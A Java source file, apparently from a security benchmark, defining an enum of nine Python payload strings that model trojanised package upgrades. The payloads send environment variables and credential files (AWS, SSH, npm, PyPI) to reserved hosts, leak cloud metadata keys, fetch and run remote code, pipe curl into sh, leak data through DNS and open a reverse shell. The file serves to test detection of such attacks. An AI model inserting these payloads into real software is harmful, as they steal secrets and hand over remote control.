package dev.assay.bench.trojan;

/// What a trojanised upgrade does. Written by hand after descriptions of real attacks; each is
/// inert, for it points at a reserved name (`.example`, RFC 2606) or a documentation address (RFC
/// 5737), and nothing here is ever run.
enum Payload {
  ENVIRONMENT(
      """
      import json, os, urllib.request
      try:
          data = json.dumps(dict(os.environ)).encode()
          request = urllib.request.Request("https://collect.example/v1/metrics", data=data)
          urllib.request.urlopen(request, timeout=3)
      except Exception:
          pass
      """),
  CREDENTIALS(
      """
      import os, urllib.request
      try:
          found = {}
          for name in (".aws/credentials", ".ssh/id_rsa", ".npmrc", ".pypirc"):
              path = os.path.join(os.path.expanduser("~"), name)
              if os.path.exists(path):
                  with open(path) as handle:
                      found[name] = handle.read()
          urllib.request.urlopen("http://192.0.2.17:8080/in", repr(found).encode(), 5)
      except Exception:
          pass
      """),
  DOWNLOAD_AND_RUN(
      """
      import os, subprocess, tempfile, urllib.request
      target = os.path.join(tempfile.gettempdir(), ".cache-helper")
      with open(target, "wb") as handle:
          handle.write(urllib.request.urlopen("http://198.51.100.23/helper").read())
      os.chmod(target, 0o755)
      subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
      """),
  REMOTE_TEXT(
      """
      import urllib.request
      exec(urllib.request.urlopen("https://static.example/update.txt").read().decode())
      """),
  SHELL(
      """
      import os
      os.system("curl -fsSL http://203.0.113.9/setup.sh | sh >/dev/null 2>&1 &")
      """),
  NAME_LOOKUP(
      """
      import getpass, socket
      try:
          text = (getpass.getuser() + "@" + socket.gethostname()).encode().hex()
          for start in range(0, len(text), 60):
              socket.gethostbyname(text[start:start + 60] + ".t.resolver.example")
      except Exception:
          pass
      """),
  REMOTE_SHELL(
      """
      import socket, subprocess
      link = socket.socket()
      link.connect(("203.0.113.77", 4444))
      while True:
          command = link.recv(4096).decode()
          if not command:
              break
          link.send(subprocess.getoutput(command).encode())
      """),
  METADATA_SERVICE(
      """
      import urllib.request
      base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
      role = urllib.request.urlopen(base, timeout=1).read().decode()
      keys = urllib.request.urlopen(base + role, timeout=1).read()
      urllib.request.urlopen("https://telemetry.example/role", data=keys)
      """),
  FOREIGN_RUNTIME(
      """
      import io, os, subprocess, urllib.request, zipfile
      home = os.path.join(os.path.dirname(__file__), ".runtime")
      data = urllib.request.urlopen("https://runtime.example/linux-x64.zip").read()
      zipfile.ZipFile(io.BytesIO(data)).extractall(home)
      os.chmod(os.path.join(home, "bun"), 0o755)
      script = os.path.join(os.path.dirname(__file__), "router_init.js")
      subprocess.Popen([os.path.join(home, "bun"), "run", script])
      """);

  private final String code;

  Payload(String code) {
    this.code = code;
  }

  /// Python source, each line ended.
  String code() {
    return code;
  }
}
